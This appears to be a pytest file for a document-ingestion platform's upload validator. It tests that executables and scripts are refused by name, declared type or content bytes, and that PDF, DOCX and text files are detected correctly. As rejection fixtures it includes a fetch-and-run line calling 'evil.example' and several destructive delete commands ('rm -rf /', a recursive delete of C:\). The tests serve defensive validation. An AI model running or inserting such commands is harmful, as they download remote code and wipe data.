"""An upload's type is decided by its name, declared type and bytes together; programs never pass."""

from __future__ import annotations

import io
import zipfile

import pytest

from ingest_filemakers import make_docx, make_pdf
from ragplatform.errors import UnsupportedMedia
from ragplatform.ingest.filetypes import FileType, detect_type
from ragplatform.ingest.readers import parse_bytes

PE = (
    b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff"
    + b"\x00" * 48
    + b"This program cannot be run in DOS mode"
)
ELF = b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 56
MACH_O = b"\xcf\xfa\xed\xfe\x07\x00\x00\x01" + b"\x00" * 24
SCRIPT = b"#!/bin/sh\ncurl http://evil.example/x | sh\n"


def jar() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("META-INF/MANIFEST.MF", "Manifest-Version: 1.0\nMain-Class: Evil\n")
        archive.writestr("Evil.class", b"\xca\xfe\xba\xbe\x00\x00\x00\x34")
    return buffer.getvalue()


@pytest.mark.parametrize(
    ("name", "data"),
    [
        ("tool.exe", PE),
        ("install.sh", SCRIPT),
        ("install.sh", b"echo hello\n"),  # a script by its name alone
        ("run.bat", b"@echo off\r\ndel /q C:\\*\r\n"),
        ("setup.ps1", b"Remove-Item -Recurse C:\\\n"),
        ("payload.js", b"require('child_process').exec('rm -rf /')\n"),
        ("macro.vbs", b'CreateObject("WScript.Shell").Run "calc"\n'),
        ("lib.so", ELF),
        ("lib.dll", PE),
        ("app.jar", jar()),
        ("setup.msi", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 64),
        ("README.TXT.EXE", b"just text\n"),
    ],
)
def test_executables_and_scripts_are_refused_even_when_declared_text(name: str, data: bytes) -> None:
    with pytest.raises(UnsupportedMedia, match="executables and scripts are not accepted") as caught:
        detect_type(name, data, "text/plain")
    assert name in caught.value.message
    assert "accepted types: .txt" in caught.value.message
    assert caught.value.field == "file"


@pytest.mark.parametrize(
    ("name", "data", "kind"),
    [
        ("notes.txt", PE, "a Windows program"),
        ("notes.txt", ELF, "a Linux/Unix program"),
        ("notes.md", MACH_O, "a macOS program"),
        ("notes.txt", SCRIPT, "a script"),
        ("notes.txt", b"\xef\xbb\xbf#! /usr/bin/env python\nprint(1)\n", "a script"),
        ("data.json", jar(), "a Java archive"),
        ("upload", PE, "a Windows program"),
    ],
)
def test_programs_are_recognised_by_their_bytes_whatever_the_name(name: str, data: bytes, kind: str) -> None:
    with pytest.raises(UnsupportedMedia, match=f"its content is {kind}"):
        detect_type(name, data, "text/plain")


def test_a_declared_program_type_is_refused() -> None:
    with pytest.raises(UnsupportedMedia, match="application/x-msdownload"):
        detect_type("notes.txt", b"plain words", "application/x-msdownload")
    with pytest.raises(UnsupportedMedia, match="text/javascript"):
        detect_type("notes", b"alert(1)", "text/javascript")


def test_text_that_merely_mentions_a_magic_number_is_text() -> None:
    assert detect_type("notes.md", b"MZ is the DOS header; #!/bin/sh starts scripts.").extension == ".md"
    assert detect_type("notes.txt", b"A PDF starts with %PDF-1.7, see the spec.").extension == ".txt"


def test_pdf_bytes_under_a_text_name_are_read_and_typed_as_pdf() -> None:
    pdf = make_pdf([["Quarterly numbers."]])
    assert detect_type("notes.txt", pdf, "text/plain") == FileType(".pdf", "application/pdf")
    [doc] = parse_bytes("notes.txt", pdf, "text/plain")
    assert doc.text == "Quarterly numbers."
    assert doc.metadata["page"] == 1


def test_docx_bytes_without_a_name_or_type_are_read_as_docx() -> None:
    found = detect_type("upload", make_docx(["Hello."]), "application/octet-stream")
    assert found.extension == ".docx"
    assert found.content_type.endswith("wordprocessingml.document")


@pytest.mark.parametrize(
    ("name", "data", "declared"),
    [
        ("notes.txt", b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR", "text/plain"),
        ("notes", b"\x00\x01\x02 binary", "text/plain"),
        ("table.csv", b"a,b\n\x00\x00\x00", None),
    ],
)
def test_binary_bytes_declared_as_text_are_refused(name: str, data: bytes, declared: str | None) -> None:
    with pytest.raises(UnsupportedMedia, match=r"declared as text .* but its content is binary"):
        detect_type(name, data, declared)


@pytest.mark.parametrize(
    ("name", "data", "what"),
    [
        ("report.pdf", b"just some words, not a PDF", "a PDF"),
        ("letter.docx", b"just some words", "a Word"),
        ("letter.docx", b"PK\x03\x04 broken zip", "a Word"),
    ],
)
def test_a_binary_format_name_over_other_bytes_is_refused(name: str, data: bytes, what: str) -> None:
    with pytest.raises(UnsupportedMedia, match=f"named or declared as {what}.* content is not one"):
        detect_type(name, data)


def test_unsupported_names_and_types_are_refused_naming_what_is_accepted() -> None:
    with pytest.raises(UnsupportedMedia, match=r"'\.png' cannot be read; accepted types: \.txt"):
        detect_type("photo.png", b"text really")
    with pytest.raises(UnsupportedMedia, match="'image/png' cannot be read"):
        detect_type("photo", b"text really", "image/png")


def test_the_declared_type_decides_only_without_an_extension() -> None:
    assert detect_type("readme.md", b"# Title", "text/plain").content_type == "text/markdown"
    assert detect_type("export", b'{"a": 1}', "application/json; charset=utf-8").extension == ".json"
    assert detect_type("page", b"<p>hi</p>", "text/html").content_type == "text/html"
